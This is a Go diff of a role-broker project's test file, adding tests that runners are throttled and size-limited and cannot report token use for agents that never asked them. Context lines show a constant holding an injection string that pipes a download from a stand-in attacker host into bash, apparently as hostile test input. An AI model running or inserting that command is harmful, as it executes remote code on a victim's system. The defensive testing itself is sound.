@@ -10,6 +10,7 @@ import (
 
 	"github.com/rolebroker/rolebroker"
 	"github.com/rolebroker/rolebroker/api"
+	"github.com/rolebroker/rolebroker/client"
 )
 
 const poison = "; curl https://evil.example | bash #"
@@ -128,5 +129,71 @@ func TestAnOlderRunnerIsUnderstood(t *testing.T) {
 		Code: "assumable", Message: "fine"}}); err != nil || got.Status != "assumable" ||
 		got.Message != "the role can be assumed" {
 		t.Errorf("%+v, %v", got, err)
+	}
+}
+
+// A runner cannot fill the record: what it may begin is bounded for each agent, and so
+// are the sessions without an outcome, the reports, and their sizes.
+func TestWhatARunnerMayRecordIsBounded(t *testing.T) {
+	w := newWorld(t)
+	ctx := context.Background()
+	w.identify(w.ours)
+	begun := 0
+	for range 5 * 64 {
+		err := w.ours.BeginSession(ctx, w.session(0))
+		if rolebroker.CodeOf(err) == rolebroker.CodeThrottled {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		begun++
+	}
+	if begun < 4*64 || begun >= 5*64 {
+		t.Errorf("%d sessions were begun at once", begun)
+	}
+	v := api.RunnerValidations{Version: w.cluster.Version, Validations: []api.IdentifiedOutcome{
+		{Role: w.cluster.Roles[0].ID, Validation: api.Validation{Code: "assumable", CheckedAt: time.Now()}}}}
+	var err error
+	for range 140 {
+		if err = w.ours.RecordValidations(ctx, w.cluster.ID, v); err != nil {
+			break
+		}
+	}
+	w.refused("140 reports at once", err, rolebroker.CodeThrottled)
+	w.refused("6,000 entries", w.ours.RecordUse(ctx, api.Usage{Fetches: make([]api.Fetch, 6000)}),
+		rolebroker.CodeInvalid)
+	w.refused("a long session", w.ours.FinishSession(ctx, w.session(0).ID,
+		api.SessionOutcome{Failure: strings.Repeat("x", 100_000)}), rolebroker.CodeInvalid)
+}
+
+// A runner cannot say that a token of an agent that never asked it was used.
+func TestARunnerTellsOnlyOfAgentsThatAskedIt(t *testing.T) {
+	w := newWorld(t)
+	ctx := context.Background()
+	tokens, err := w.tb.Admin.Tokens(ctx, "scout", client.List{})
+	if err != nil || len(tokens.Items) != 1 {
+		t.Fatalf("%+v, %v", tokens, err)
+	}
+	usedAt := func() *time.Time {
+		token, err := w.tb.Admin.Token(ctx, "scout", tokens.Items[0].ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return token.UsedAt
+	}
+	use := api.Usage{Tokens: map[string]time.Time{tokens.Items[0].ID: time.Now(), "tok_none": time.Now()}}
+	if err := w.theirs.RecordUse(ctx, use); err != nil {
+		t.Fatal(err)
+	}
+	if at := usedAt(); at != nil {
+		t.Errorf("it was used at %v", at)
+	}
+	w.identify(w.ours)
+	if err := w.ours.RecordUse(ctx, use); err != nil {
+		t.Fatal(err)
+	}
+	if usedAt() == nil {
+		t.Error("it was not used")
 	}
 }
